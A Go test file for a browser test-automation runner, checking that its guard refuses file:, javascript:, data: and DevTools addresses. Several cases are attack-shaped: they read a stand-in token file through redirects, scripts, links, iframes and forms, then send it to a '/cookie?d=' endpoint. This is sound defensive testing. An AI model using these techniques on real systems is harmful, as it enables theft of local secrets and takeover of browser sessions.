package runner

import (
	"context"
	"encoding/json"
	"net/url"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/go-rod/rod/lib/proto"
	"github.com/testautomation/ta/protocol"
)

// tokenMarker is the content of the stand-in for the agent's token file:
// it must reach no page, variable, screenshot, event or result.
const tokenMarker = "tat_MARKER_never_in_a_run_0xC0FFEE"

// tokenFile writes the stand-in and returns its file: URL.
func tokenFile(t *testing.T) string {
	t.Helper()
	p := filepath.Join(t.TempDir(), "agent.json")
	if err := os.WriteFile(p, []byte(`{"token":"`+tokenMarker+`"}`), 0o600); err != nil {
		t.Fatal(err)
	}
	return (&url.URL{Scheme: "file", Path: p}).String()
}

// unsaved numbers steps as document does, without validating: these
// documents could not be saved, but an agent must not trust that.
func unsaved(t *testing.T, steps ...protocol.Step) protocol.Document {
	for i := range steps {
		steps[i].ID = "s" + strconv.Itoa(i+1)
	}
	return protocol.Document{DSL: protocol.DSLVersion, Name: t.Name(), Steps: steps}
}

func scriptStep(code string) protocol.Step { return protocol.Step{Type: "script", Code: code} }

func linkTo(href, target string) protocol.Step {
	return nav("/links.html?href=" + url.QueryEscape(href) + "&target=" + target)
}

// TestRefusedAddressesBlocked (issue 26, finding 1a): whatever leads the
// browser to an address a test may not open (an interpolated navigate, a
// relative one under a file: base URL, a script's location or
// window.open, a link, a link to a new window, a form, an iframe, a
// redirect), the browser does not open it and the step that led there
// fails, saying what was refused and why. The stand-in token file reaches
// nothing the run reports.
func TestRefusedAddressesBlocked(t *testing.T) {
	t.Parallel()
	file := tokenFile(t)
	dir := file[:strings.LastIndex(file, "/")+1]
	steal := func(steps ...protocol.Step) []protocol.Step {
		// What the attacker wrote after it: read the page, send it away.
		return append(steps, protocol.Step{Type: "setVariable", Name: "tok", Target: css("body")},
			protocol.Step{Type: "navigate", URL: siteURL("/cookie?d=${tok}")})
	}
	title := protocol.Step{Type: "assertTitle", Expected: protocol.Ptr("Never"), Match: "equals", TimeoutMs: 3000}
	cases := []struct {
		name   string
		vars   map[string]string
		steps  []protocol.Step
		failed int    // the index of the step that fails
		what   string // in its error
	}{
		{"navigate to an interpolated file: URL", map[string]string{"u": file},
			steal(protocol.Step{Type: "navigate", URL: "${u}"}), 0, "navigate to " + file + " refused"},
		{"navigate relative to a file: base URL", map[string]string{"baseUrl": dir},
			steal(protocol.Step{Type: "navigate", URL: "agent.json"}), 0, "navigate to agent.json under the baseUrl " + dir + " refused"},
		{"navigate to javascript: written oddly", map[string]string{"u": "  JaVa\tScript:document.title='x'"},
			[]protocol.Step{{Type: "navigate", URL: "${u}"}}, 0, "navigate to   JaVa\tScript:document.title='x' refused"},
		{"navigate to data:", map[string]string{"u": "data:text/html,<title>x</title>"},
			[]protocol.Step{{Type: "navigate", URL: "${u}"}}, 0, "navigate to data:text/html"},
		{"navigate to view-source:", map[string]string{"u": "view-source:" + siteURL("/login.html")},
			[]protocol.Step{{Type: "navigate", URL: "${u}"}}, 0, "navigate to view-source:"},
		{"navigate to chrome:", map[string]string{"u": "chrome://version"},
			[]protocol.Step{{Type: "navigate", URL: "${u}"}}, 0, "navigate to chrome://version refused"},
		{"navigate through a redirect", map[string]string{"u": siteURL("/redirect?to=" + url.QueryEscape(file))},
			steal(protocol.Step{Type: "navigate", URL: "${u}"}), 0, "to " + file + " refused"},
		{"script sets location", nil,
			steal(nav("/login.html"), scriptStep("location = '"+file+"'")), 1, "opening " + file + " refused"},
		{"script opens a window", nil,
			steal(nav("/login.html"), scriptStep("window.open('"+file+"')")), 1, "opening " + file + " refused"},
		{"script opens a data: window", nil,
			[]protocol.Step{nav("/login.html"), scriptStep("window.open('data:text/html,<title>x</title>')")}, 1, "opening a window at data:text/html"},
		{"script adds an iframe", nil,
			steal(nav("/login.html"), scriptStep("const f = document.createElement('iframe'); f.src = '"+file+"'; document.body.append(f)")),
			1, "opening " + file + " refused"},
		{"script submits a form", nil,
			[]protocol.Step{nav("/login.html"), scriptStep("const f = document.getElementById('login'); f.action = '" + file + "'; HTMLFormElement.prototype.submit.call(f)")},
			1, "opening " + file},
		{"click on a link", nil, steal(linkTo(file, ""), click(css("#link"))), 1, "opening " + file + " refused"},
		{"click on a link to a new window", nil, []protocol.Step{linkTo("data:text/html,<title>x</title>", "_blank"), click(css("#link"))},
			1, "opening a window at data:text/html"},
		{"click on a link that redirects", nil, []protocol.Step{linkTo(siteURL("/redirect?to="+url.QueryEscape(file)), ""), click(css("#link")), title},
			-1, "the redirect from " + siteURL("/redirect")},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			ctx, cancel := context.WithTimeout(context.Background(), 45*time.Second)
			defer cancel()
			res, rec := runJob(t, ctx, protocol.Job{Version: 1, Document: unsaved(t, tc.steps...), Variables: tc.vars, Screenshots: true})
			failed := -1
			for i, s := range res.Steps {
				if s.Status == protocol.StepFailed {
					failed = i
				}
			}
			if res.Status != protocol.RunFailed || (tc.failed >= 0 && failed != tc.failed) || failed < 0 {
				t.Fatalf("status %s, failed step %d (want %d): %s", res.Status, failed, tc.failed, res.Error)
			}
			msg := res.Steps[failed].Error
			if !strings.Contains(msg, tc.what) || !strings.HasSuffix(msg, "refused: "+protocol.OpenRule) {
				t.Errorf("step %d error %q: want it to name %q and say why", failed, msg, tc.what)
			}
			all, _ := json.Marshal([]any{res, rec.events})
			if strings.Contains(string(all), tokenMarker) {
				t.Errorf("the token file reached the run's report: %s", all)
			}
			for name, data := range rec.artifacts {
				if strings.Contains(string(data), tokenMarker) {
					t.Errorf("the token file is in artifact %s", name)
				}
			}
		})
	}
}

// TestGuardBlocksWhatTheRunnerIsAsked: the guard is no check of the
// navigate step alone. A page of the runner asked to open a file: page,
// or an address that redirects there, by any way a step could ask, loads
// nothing of it, and the tab records the refusal.
func TestGuardBlocksWhatTheRunnerIsAsked(t *testing.T) {
	t.Parallel()
	file := tokenFile(t)
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	tb, err := testBrowser.acquire(ctx)
	if err != nil {
		t.Fatal(err)
	}
	defer testBrowser.dispose(tb)
	s := tb.sess.with(ctx)
	for _, u := range []string{file, siteURL("/redirect?to=" + url.QueryEscape(file)), "view-source:" + file} {
		nav, err := proto.PageNavigate{URL: u}.Call(s)
		if err != nil {
			t.Fatal(err)
		}
		time.Sleep(300 * time.Millisecond)
		page, err := evalValue(ctx, tb.sess, "location.href + ' ' + (document.documentElement || {}).outerHTML")
		if err != nil {
			t.Fatal(err)
		}
		if strings.Contains(page.Str(), tokenMarker) {
			t.Errorf("%s: the page shows the file (%q): %s", u, nav.ErrorText, page.Str())
		}
		if why := tb.refusals.take(); !strings.Contains(why, file) {
			t.Errorf("%s: the refusal is %q", u, why)
		}
	}
}

// TestPageOwnContentStillOpens: the guard refuses no address a page makes
// of its own content, which Chromium opens: data: images and frames, a
// blob: window (an invoice the page built), about:blank and srcdoc frames.
func TestPageOwnContentStillOpens(t *testing.T) {
	t.Parallel()
	res, _ := runSteps(t, nav("/login.html"),
		scriptStep(`const f = document.createElement('iframe'); f.src = 'data:text/html,<p>framed</p>'; document.body.append(f);
const g = document.createElement('iframe'); g.srcdoc = '<p>srcdoc</p>'; document.body.append(g);
const i = new Image(); i.src = 'data:image/gif;base64,R0lGODlhAQABAIAAAP///wAAACH5BAEAAAAALAAAAAABAAEAAAICRAEAOw=='; document.body.append(i);
window.open(URL.createObjectURL(new Blob(['<p>invoice</p>'], {type: 'text/html'})));
window.open('about:blank');`),
		typed("assertVisible", &protocol.Target{Locators: []protocol.Locator{loc("text", "framed")}, Frame: []protocol.Locator{loc("css", "iframe[src^=data]")}}),
		short(scriptStep("const i = document.images[document.images.length - 1]; if (!i.complete || !i.naturalWidth) throw new Error('no image')"), 2000),
		textIs(css("h1"), "equals", "Sign in"))
	mustPass(t, res)
}

// A page sent to the DevTools endpoint of the agent's own browser would
// list every page of it, other runs' too, and GET /json/close/<id> closes
// one (found by review, Chromium 156): whichever way a test sends it
// there, the request is refused.
func TestDevToolsAddressBlocked(t *testing.T) {
	t.Parallel()
	cu, err := url.Parse(testBrowser.ControlURL())
	if err != nil {
		t.Fatal(err)
	}
	list := "http://" + cu.Host + "/json/list"
	byName := "http://localhost:" + cu.Port() + "/json/version"
	read := protocol.Step{Type: "setVariable", Name: "pages", Target: css("body"), TimeoutMs: 2000}
	for name, steps := range map[string][]protocol.Step{
		"navigate":              {{Type: "navigate", URL: "${u}"}, read},
		"navigate by name":      {{Type: "navigate", URL: "${n}"}, read},
		"script sets location":  {nav("/login.html"), scriptStep("location = '" + list + "'"), {Type: "wait", Ms: protocol.Ptr(500)}},
		"script adds an iframe": {nav("/login.html"), scriptStep("const f = document.createElement('iframe'); f.src = '" + list + "'; document.body.append(f)"), {Type: "wait", Ms: protocol.Ptr(500)}},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			ctx, cancel := context.WithTimeout(context.Background(), 45*time.Second)
			defer cancel()
			res, _ := runJob(t, ctx, protocol.Job{Version: 1, Document: unsaved(t, steps...), Variables: map[string]string{"u": list, "n": byName}})
			if res.Status != protocol.RunFailed || !strings.Contains(res.Error, "it is the DevTools address of the agent's browser") {
				t.Fatalf("status %s: %s", res.Status, res.Error)
			}
			for _, s := range res.Steps {
				if strings.Contains(s.Used["result"], "webSocketDebuggerUrl") {
					t.Errorf("the page read the DevTools list: %s", s.Used["result"])
				}
			}
		})
	}
}

// A closed browser's DevTools port goes back to the system, which hands it
// to the next listener, the application under test included (seen in CI:
// a recording refused its own site's address as "the DevTools address"):
// the guard refuses a port only while a browser of the agent listens
// there.
func TestDevToolsGuardEndsWithBrowser(t *testing.T) {
	ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
	defer cancel()
	b, err := Launch(ctx, Options{BrowserPath: testBrowser.Path(), HeadlessShell: "off"})
	if err != nil {
		t.Fatal(err)
	}
	cu, err := url.Parse(b.ControlURL())
	if err != nil {
		t.Fatal(err)
	}
	addr := "http://127.0.0.1:" + cu.Port() + "/"
	if !devToolsURL(addr) {
		t.Fatalf("%s is not guarded while its browser runs", addr)
	}
	if err := b.Close(); err != nil {
		t.Fatal(err)
	}
	if devToolsURL(addr) {
		t.Errorf("%s is still refused after its browser closed", addr)
	}
	own, err := url.Parse(testBrowser.ControlURL())
	if err != nil {
		t.Fatal(err)
	}
	if !devToolsURL("http://localhost:" + own.Port() + "/json/list") {
		t.Error("the browser still running lost its guard")
	}

	// Two registrations of one port (a port reused by a later browser
	// before the first one's release) keep it until both are released.
	r1, r2 := GuardDevTools("ws://127.0.0.1:1/devtools/browser/a"), GuardDevTools("ws://127.0.0.1:1/devtools/browser/b")
	r1()
	r1()
	if !devToolsURL("http://127.0.0.1:1/") {
		t.Error("one release of two ended the guard")
	}
	r2()
	if devToolsURL("http://127.0.0.1:1/") {
		t.Error("the port is guarded after both releases")
	}
}
